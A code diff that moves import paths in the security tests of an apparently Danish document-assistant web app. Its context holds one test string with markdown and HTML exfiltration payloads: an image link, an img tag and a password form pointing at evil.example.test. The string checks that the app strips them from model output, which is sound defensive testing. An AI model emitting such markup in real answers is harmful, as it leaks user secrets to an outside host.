@@ -13,7 +13,7 @@ import httpx
 import pytest
 from gradio_client import Client
 
-from assistant.security import lax_cookie, origin_allowed
+from assistant.web.security import lax_cookie, origin_allowed
 
 from .test_app import STAFF, RunningApp
 
@@ -152,8 +152,8 @@ def test_staff_without_trailing_slash_is_found(app):
 
 
 def test_model_markdown_loses_images_raw_html_and_foreign_links():
-    from assistant.answer import Answer
-    from assistant.ui import render_answer
+    from assistant.answer.assistant import Answer
+    from assistant.web.app import render_answer
 
     hostile = ("Svar [1]. ![x](http://evil.example.test/leak?q=secret) <img src=http://evil.example.test/a> "
                "<form action=https://evil.example.test><input name=password></form> "
@@ -165,10 +165,10 @@ def test_model_markdown_loses_images_raw_html_and_foreign_links():
 
 
 def test_document_html_is_quoted_as_text(tmp_path):
-    from assistant.answer import Assistant
-    from assistant.retrieval import Retriever
-    from assistant.store import Store
-    from assistant.sync import sync
+    from assistant.answer.assistant import Assistant
+    from assistant.ingest.sync import sync
+    from assistant.retrieval.search import Retriever
+    from assistant.store.chroma import Store
 
     from .conftest import settings_for
 
@@ -233,7 +233,7 @@ def login(app, path: str, user: str, password: str, client: str = "") -> httpx.R
 
 
 def test_login_limiter_waits_longer_after_each_failure():
-    from assistant.security import LoginLimiter
+    from assistant.web.security import LoginLimiter
 
     now = [0.0]
     limiter = LoginLimiter(free_attempts=3, max_delay_s=10, clock=lambda: now[0])
@@ -384,7 +384,7 @@ def test_a_chunked_staff_upload_is_refused_before_anything_is_stored(app):
 
 
 def test_a_refused_or_saved_upload_leaves_no_temporary_copy(tmp_path, monkeypatch):
-    from assistant.ui import save_uploads
+    from assistant.web.app import save_uploads
 
     cache = tmp_path / "gradio-cache"
     monkeypatch.setenv("GRADIO_TEMP_DIR", str(cache))
@@ -407,7 +407,7 @@ def test_a_refused_or_saved_upload_leaves_no_temporary_copy(tmp_path, monkeypatc
 @pytest.mark.parametrize("name, expected_suffix", [
     ("a" * 200 + ".docx", ".docx"), ("b" * 130 + ".md", ".md"), ("Vejledning om IP.pdf", ".pdf")])
 def test_a_long_upload_name_keeps_its_type(name, expected_suffix):
-    from assistant.ui import safe_filename
+    from assistant.web.app import safe_filename
 
     safe = safe_filename(name)
     assert len(safe) <= 120 and safe.endswith(expected_suffix)
@@ -416,7 +416,7 @@ def test_a_long_upload_name_keeps_its_type(name, expected_suffix):
 def test_staff_page_says_when_feedback_cannot_be_saved():
     from types import SimpleNamespace
 
-    from assistant.ui import storage_notice
+    from assistant.web.app import storage_notice
 
     broken = SimpleNamespace(feedback=SimpleNamespace(last_error=lambda: "disk full: free space in data"))
     assert "disk full" in storage_notice(broken)
